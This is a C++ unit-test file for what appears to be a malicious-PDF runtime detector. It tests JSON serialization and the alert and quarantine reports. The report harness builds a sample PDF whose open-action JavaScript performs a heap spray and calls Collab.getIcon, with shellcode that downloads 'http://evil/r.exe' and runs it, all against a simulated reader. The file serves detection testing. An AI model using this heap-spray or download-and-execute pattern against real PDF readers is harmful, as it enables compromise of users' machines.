@@ -1,0 +1,121 @@
+// Tests for the JSON writer and the §III-E alert reports.
+#include <gtest/gtest.h>
+
+#include "core/pipeline.hpp"
+#include "core/report.hpp"
+#include "corpus/builders.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "support/json.hpp"
+#include "sys/kernel.hpp"
+
+namespace co = pdfshield::core;
+namespace cp = pdfshield::corpus;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+TEST(Json, ScalarsSerialize) {
+  EXPECT_EQ(sp::Json().dump(), "null");
+  EXPECT_EQ(sp::Json(true).dump(), "true");
+  EXPECT_EQ(sp::Json(false).dump(), "false");
+  EXPECT_EQ(sp::Json(42).dump(), "42");
+  EXPECT_EQ(sp::Json(2.5).dump(), "2.5");
+  EXPECT_EQ(sp::Json("hi").dump(), "\"hi\"");
+}
+
+TEST(Json, StringEscaping) {
+  EXPECT_EQ(sp::Json("a\"b\\c\nd").dump(), "\"a\\\"b\\\\c\\nd\"");
+  EXPECT_EQ(sp::Json(std::string("\x01")).dump(), "\"\\u0001\"");
+}
+
+TEST(Json, ObjectsKeepInsertionOrder) {
+  sp::Json j = sp::Json::object();
+  j["zulu"] = 1;
+  j["alpha"] = 2;
+  EXPECT_EQ(j.dump(), "{\"zulu\":1,\"alpha\":2}");
+}
+
+TEST(Json, ArraysAndNesting) {
+  sp::Json j = sp::Json::object();
+  j["list"].push_back(1);
+  j["list"].push_back("two");
+  j["inner"]["deep"] = true;
+  EXPECT_EQ(j.dump(), "{\"list\":[1,\"two\"],\"inner\":{\"deep\":true}}");
+}
+
+TEST(Json, PrettyPrintIndents) {
+  sp::Json j = sp::Json::object();
+  j["a"] = 1;
+  const std::string out = j.dump(2);
+  EXPECT_NE(out.find("{\n  \"a\": 1\n}"), std::string::npos);
+}
+
+TEST(Json, TypeMisuseThrows) {
+  sp::Json arr = sp::Json::array();
+  EXPECT_THROW(arr["key"] = 1, sp::LogicError);
+  sp::Json obj = sp::Json::object();
+  EXPECT_THROW(obj.push_back(1), sp::LogicError);
+}
+
+namespace {
+
+struct ReportHarness {
+  sy::Kernel kernel;
+  sp::Rng rng{77};
+  co::RuntimeDetector detector{kernel, rng};
+  co::FrontEnd frontend{rng, detector.detector_id()};
+  rd::ReaderSim reader{kernel};
+
+  ReportHarness() { detector.attach(reader); }
+
+  co::InstrumentationKey run_malicious() {
+    rd::ShellcodeProgram prog;
+    prog.ops.push_back({"DROP", {"http://evil/r.exe", "c:/r.exe"}});
+    prog.ops.push_back({"EXEC", {"c:/r.exe"}});
+    cp::DocumentBuilder builder(rng);
+    builder.add_blank_page();
+    builder.set_open_action_js(
+        "var unit = unescape('%u9090%u9090') + '" +
+        rd::encode_shellcode(prog) + "';"
+        "var spray = unit; while (spray.length < 2097152) spray += spray;"
+        "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
+    co::FrontEndResult fe = frontend.process(builder.build());
+    detector.register_document(fe.record.key, "reported.pdf", fe.features);
+    reader.open_document(fe.output, "reported.pdf");
+    return fe.record.key;
+  }
+};
+
+}  // namespace
+
+TEST(Report, DocumentReportCarriesVerdictAndEvidence) {
+  ReportHarness h;
+  const auto key = h.run_malicious();
+  const std::string json = co::document_report(h.detector, key).dump(2);
+  EXPECT_NE(json.find("\"verdict\": \"malicious\""), std::string::npos);
+  EXPECT_NE(json.find("\"document\": \"reported.pdf\""), std::string::npos);
+  EXPECT_NE(json.find("F11"), std::string::npos);  // malware-dropping feature
+  EXPECT_NE(json.find("c:/r.exe"), std::string::npos);
+  EXPECT_NE(json.find("\"threshold\": 10"), std::string::npos);
+}
+
+TEST(Report, UnknownKeyReportsUnknown) {
+  ReportHarness h;
+  co::InstrumentationKey bogus;
+  bogus.detector_id = "0000000000000000";
+  bogus.document_key = "ffffffffffffffff";
+  const std::string json = co::document_report(h.detector, bogus).dump();
+  EXPECT_NE(json.find("\"known\":false"), std::string::npos);
+}
+
+TEST(Report, SessionReportListsConfinementLedger) {
+  ReportHarness h;
+  h.run_malicious();
+  const std::string json = co::session_report(h.detector, h.kernel).dump(2);
+  EXPECT_NE(json.find("\"alerts\""), std::string::npos);
+  EXPECT_NE(json.find("reported.pdf"), std::string::npos);
+  EXPECT_NE(json.find("quarantine://c:/r.exe"), std::string::npos);
+  EXPECT_NE(json.find("\"sandboxed_processes\""), std::string::npos);
+  EXPECT_NE(json.find("\"terminated\": true"), std::string::npos);
+}
